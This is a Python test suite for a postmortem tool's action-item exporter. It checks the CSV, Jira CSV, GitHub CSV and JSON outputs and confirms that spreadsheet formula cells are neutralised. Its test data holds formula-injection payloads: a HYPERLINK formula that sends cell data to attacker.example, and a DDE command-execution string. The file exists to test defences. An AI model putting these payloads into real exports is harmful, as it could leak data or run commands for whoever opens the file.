"""Backlog export: every format reads back, and no cell runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pmdesk.actions.export import (
    MARKER,
    ExportFormat,
    export_actions,
    neutralise,
    write_actions,
)
from pmdesk.errors import BadInput, ExportFailed
from pmdesk.model.review import Action, Person, Review
from pmdesk.text import clean_text

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def rows(data: bytes, *, bom: bool = False) -> list[list[str]]:
    text = data.decode("utf-8-sig" if bom else "utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def test_plain_csv_reads_back(review: Review) -> None:
    data = export_actions(review, "csv")
    assert data.startswith("\ufeff".encode())
    header, first, *rest = rows(data, bom=True)
    assert header == [
        "Action ID",
        "Action",
        "Owner",
        "Outcome",
        "Due",
        "Status",
        "Tracker",
        "Factors",
        "Review ID",
        "Review",
    ]
    assert first == [
        "a1",
        "Add an alert for replication lag > 30s",
        "Alex Kim",
        "replication lag > 30s pages on-call",
        "2026-12-15",
        "open",
        "",
        "The timeout change was not flagged in review",
        "rev-7f3a",
        "Checkout errors after a config push",
    ]
    assert [r[0] for r in rest] == ["a2", "a3"]
    assert rest[1][2] == ""  # no owner stays empty, not "None"


def test_every_cell_is_quoted(review: Review) -> None:
    text = export_actions(review, ExportFormat.CSV).decode("utf-8-sig")
    first_line = text.split("\r\n")[0]
    assert first_line.startswith('"Action ID","Action"')


def test_jira_csv_has_the_columns_jira_maps(review: Review) -> None:
    data = export_actions(review, "jira-csv")
    assert not data.startswith("\ufeff".encode())
    header, first, second, third = rows(data)
    assert header == [
        "Summary",
        "Issue Type",
        "Description",
        "Assignee",
        "Due Date",
        "Labels",
        "Labels",
        "Labels",
    ]
    assert first[0] == "Add an alert for replication lag > 30s"
    assert first[1] == "Task"
    assert first[3:] == ["Alex Kim", "2026-12-15", "postmortem", "pm-rev-7f3a", "sev2"]
    body = first[2]
    assert "Outcome: replication lag > 30s pages on-call" in body
    assert 'From the post-incident review "Checkout errors after a config push" (SEV2).' in body
    assert f"{MARKER} a1 (review rev-7f3a)" in body
    assert "- The timeout change was not flagged in review" in body
    assert second[3:5] == ["Sam Rivera", "2026-12-04"]
    assert third[3:5] == ["", ""]


def test_jira_summary_is_one_line_within_255_characters(review: Review) -> None:
    long = review.replace(actions=(Action("a1", "Add a check\nthat " + "x" * 400),))
    _, row = rows(export_actions(long, "jira-csv"))
    assert len(row[0]) == 255
    assert "\n" not in row[0]


def test_github_csv_suits_gh_issue_create(review: Review) -> None:
    header, first, *_ = rows(export_actions(review, "github-csv"))
    assert header == ["title", "body", "assignee", "labels", "due"]
    assert first[0] == "Add an alert for replication lag > 30s"
    assert first[2:] == ["Alex Kim", "postmortem,pm-rev-7f3a,sev2", "2026-12-15"]
    assert "Due: 2026-12-15" in first[1]


def test_json_keeps_typed_values(review: Review) -> None:
    document = json.loads(export_actions(review, "json"))
    assert document["format"] == "pmdesk-actions"
    assert document["review"] == {
        "id": "rev-7f3a",
        "title": "Checkout errors after a config push",
        "severity": "SEV2",
    }
    first, second, third = document["actions"]
    assert first["owner"] == "Alex Kim"
    assert first["owner_id"] == "p-alex"
    assert first["due"] == "2026-12-15"
    assert first["factors"] == ["f1"]
    assert first["labels"] == ["postmortem", "pm-rev-7f3a", "sev2"]
    assert second["status"] == "in_progress"
    assert third["owner"] is None
    assert third["due"] is None


def test_skip_tracked_and_closed(review: Review) -> None:
    tracked = review.replace(
        actions=(replace(review.actions[0], tracker_ref="OPS-1"), *review.actions[1:])
    )
    ids = [r[0] for r in rows(export_actions(tracked, "csv", skip_tracked=True), bom=True)[1:]]
    assert ids == ["a2", "a3"]
    ids = [r[0] for r in rows(export_actions(tracked, "csv", skip_closed=True), bom=True)[1:]]
    assert ids == ["a1", "a2"]


INJECTIONS = [
    '=HYPERLINK("http://attacker.example/?d="&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
]


@pytest.mark.parametrize("fmt", ["csv", "jira-csv", "github-csv"])
@pytest.mark.parametrize("payload", INJECTIONS)
def test_formula_cells_are_neutralised(review: Review, fmt: str, payload: str) -> None:
    hostile = review.replace(
        title=payload,
        people=(Person("p1", payload),),
        actions=(Action("a1", payload, owner="p1", outcome=payload),),
    )
    table = rows(export_actions(hostile, fmt), bom=fmt == "csv")
    for cell in table[1]:
        assert not cell.startswith(TRIGGERS), cell
    assert table[1][0 if fmt != "csv" else 1].startswith("'")


def test_dates_are_not_prefixed(review: Review) -> None:
    _, first, *_ = rows(export_actions(review, "jira-csv"))
    assert first[4] == "2026-12-15"


def test_neutralise_leaves_ordinary_text() -> None:
    assert neutralise("Add an alert") == "Add an alert"
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("") == ""


def test_unknown_format_is_a_plain_error(review: Review) -> None:
    with pytest.raises(BadInput, match="'xlsx' is not an action format; use csv, jira-csv"):
        export_actions(review, "xlsx")


def test_write_actions_is_atomic(review: Review, tmp_path: Path) -> None:
    target = tmp_path / "actions.csv"
    target.write_bytes(b"old")
    written = write_actions(review, "jira-csv", target)
    assert written == target
    assert target.read_bytes() == export_actions(review, "jira-csv")
    assert [p.name for p in tmp_path.iterdir()] == ["actions.csv"]
    with pytest.raises(ExportFailed, match="does not exist"):
        write_actions(review, "csv", tmp_path / "missing" / "actions.csv")


_TEXT = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)) | st.sampled_from(TRIGGERS),
    max_size=60,
)


@given(text=_TEXT, owner=_TEXT, outcome=_TEXT, title=_TEXT)
def test_every_cell_round_trips(text: str, owner: str, outcome: str, title: str) -> None:
    review = Review(
        id="r1",
        title=title,
        people=(Person("p1", owner),),
        actions=(Action("a1", text, owner="p1", outcome=outcome, due=date(2027, 1, 5)),),
    )
    _, row = rows(export_actions(review, "csv"), bom=True)
    expected = [clean_text(text), clean_text(owner), clean_text(outcome)]
    got = [row[1], row[2], row[3]]
    for want, cell in zip(expected, got, strict=True):
        assert not cell.startswith(TRIGGERS)
        assert cell == ("'" + want if want.startswith(TRIGGERS) else want)
    assert row[4] == "2027-01-05"
    for fmt in ("jira-csv", "github-csv"):
        for cell in rows(export_actions(review, fmt))[1]:
            assert not cell.startswith(TRIGGERS)
    assert json.loads(export_actions(review, "json"))["actions"][0]["text"] == clean_text(text)


@given(st.text(max_size=40))
def test_lone_surrogates_do_not_break_the_export(text: str) -> None:
    review = Review(id=text or "r", title=text, actions=(Action(text or "a", text),))
    for fmt in ExportFormat:
        assert export_actions(review, fmt)
